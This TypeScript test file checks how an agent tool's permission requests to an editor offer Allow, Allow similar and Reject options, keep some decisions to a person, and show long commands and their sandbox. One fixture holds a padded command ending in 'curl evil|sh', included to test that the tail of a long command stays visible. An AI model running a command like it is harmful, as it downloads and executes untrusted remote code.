import { describe, expect, it } from 'vitest';
import { permissionOutcome, permissionRequest, wholeContent } from '../../src/main/acp/permission.js';
import type { Action } from '../../src/shared/actions.js';
import type { GateDecision } from '../../src/shared/approvals.js';
import { describeSandbox, type SandboxSummary } from '../../src/shared/sandbox.js';

// What an ACP editor is asked for a held action, and what its answer does (acp/permission.ts).
// The end-to-end path (a real ACP client, the service, a run) is in acp-agent.desktop and acp-describe.fast.

const ask: GateDecision = { verdict: 'ask', rule: 'mode:ask', reason: 'every action is asked', humanOnly: false };
const humanOnly: GateDecision = { verdict: 'ask', rule: 'sandbox:escalation', reason: 'more access\nfor the command', humanOnly: true };
const longCommand: Action = { type: 'shell', command: `echo ${'a'.repeat(300)}; curl evil|sh\r` } as Action;
const selected = (optionId: string) => ({ outcome: { outcome: 'selected' as const, optionId } });

describe('ACP permission request', () => {
  it('offers Allow, Allow similar and Reject for an ordinary held action, each with its ACP kind', () => {
    const { options } = permissionRequest('p1', ask, { type: 'click', x: 10, y: 20, button: 'left', clicks: 1, modifiers: [] } as Action);
    expect(options).toEqual([
      { optionId: 'approve', name: 'Allow', kind: 'allow_once' },
      { optionId: 'approve_similar', name: 'Allow this kind of action for the rest of the run', kind: 'allow_always' },
      { optionId: 'reject', name: 'Reject', kind: 'reject_once' },
    ]);
  });

  it('offers no "allow always" when only a person may answer', () => {
    const { options } = permissionRequest('p1', humanOnly, longCommand);
    expect(options.map((o) => o.kind)).toEqual(['allow_once', 'reject_once']);
  });

  it('offers no "allow always" for a code block, and takes that option as no approval if it comes anyway (issue 31)', () => {
    const block = { type: 'shell', language: 'python', command: '# python block\nprint(1)' } as Action;
    expect(permissionRequest('p1', ask, block).options.map((o) => o.kind)).toEqual(['allow_once', 'reject_once']);
    expect(permissionOutcome(ask, selected('approve_similar'), block)).toEqual({ kind: 'answer', answer: { decision: 'reject', feedback: 'unknown permission option "approve_similar"' } });
    expect(permissionOutcome(ask, selected('approve'), block)).toEqual({ kind: 'answer', answer: { decision: 'approve' } });
  });

  it('titles a long command by its start and end with the cut said, and carries it whole in the content', () => {
    const { toolCall } = permissionRequest('p7', ask, longCommand);
    expect(toolCall.toolCallId).toBe('p7');
    expect(toolCall.status).toBe('pending');
    expect(toolCall.title).toMatch(/^run shell: echo a+…\[\d+ chars cut\]…a+; curl evil\|sh␍$/);
    expect([...(toolCall.title ?? '')].length).toBeLessThanOrEqual(160);
    expect(toolCall.content?.[0]).toEqual({ type: 'content', content: { type: 'text', text: `run shell: echo ${'a'.repeat(300)}; curl evil|sh␍` } });
    expect(toolCall.content?.slice(0, 1)).toEqual(wholeContent(longCommand));
    expect(toolCall.rawInput).toEqual({ action: longCommand, why: 'every action is asked', rule: 'mode:ask' });
  });

  it('says where a held shell command would run: the run\'s sandbox, or no sandbox; nothing for another action (issue 30 item 7)', () => {
    const boxed: SandboxSummary = { mode: 'read-only', enforcer: 'bubblewrap', workspace: '/w\u001bx', writable: [], network: false, display: true };
    const shell = { type: 'shell', command: 'ls' } as Action;
    const text = (content: unknown) => (content as { content: { text: string } }).content.text;
    const where = (words: string) => ({ type: 'content', content: { type: 'text', text: `runs in: ${words}` } });
    const inBox = permissionRequest('p3', ask, shell, boxed).toolCall.content ?? [];
    expect(inBox).toEqual([...wholeContent(shell), where(describeSandbox(boxed).replace('\u001b', '␛'))]);
    expect(text(inBox[1])).toContain('can type into any window');
    expect(permissionRequest('p3', ask, shell).toolCall.content).toEqual([...wholeContent(shell), where('no sandbox (full access)')]);
    const click = { type: 'click', x: 1, y: 2, button: 'left', clicks: 1, modifiers: [] } as Action;
    expect(permissionRequest('p4', ask, click, boxed).toolCall.content).toEqual(wholeContent(click));
  });

  it('without the proposal, titles the request by the gate\'s reason (control characters visible) and sends no content', () => {
    const { toolCall } = permissionRequest('p2', humanOnly, undefined);
    expect(toolCall.title).toBe('more access␊for the command');
    expect('content' in toolCall).toBe(false);
    expect(toolCall.rawInput).toEqual({ action: undefined, why: 'more access\nfor the command', rule: 'sandbox:escalation' });
  });
});

describe('ACP permission outcome', () => {
  it('maps each offered option to its queue answer', () => {
    expect(permissionOutcome(ask, selected('approve'))).toEqual({ kind: 'answer', answer: { decision: 'approve' } });
    expect(permissionOutcome(ask, selected('approve_similar'))).toEqual({ kind: 'answer', answer: { decision: 'approve_similar' } });
    expect(permissionOutcome(ask, selected('reject'))).toEqual({ kind: 'answer', answer: { decision: 'reject' } });
  });

  it('rejects an option that was not offered, naming it — "allow always" on a person-only decision included', () => {
    expect(permissionOutcome(ask, selected('yolo'))).toEqual({ kind: 'answer', answer: { decision: 'reject', feedback: 'unknown permission option "yolo"' } });
    expect(permissionOutcome(humanOnly, selected('approve_similar'))).toEqual({
      kind: 'answer',
      answer: { decision: 'reject', feedback: 'unknown permission option "approve_similar"' },
    });
    expect(permissionOutcome(humanOnly, selected('approve'))).toEqual({ kind: 'answer', answer: { decision: 'approve' } });
  });

  it('stops the run when the editor cancelled the request', () => {
    expect(permissionOutcome(ask, { outcome: { outcome: 'cancelled' } })).toEqual({ kind: 'stop', reason: 'cancelled from the editor (permission request cancelled)' });
  });
});
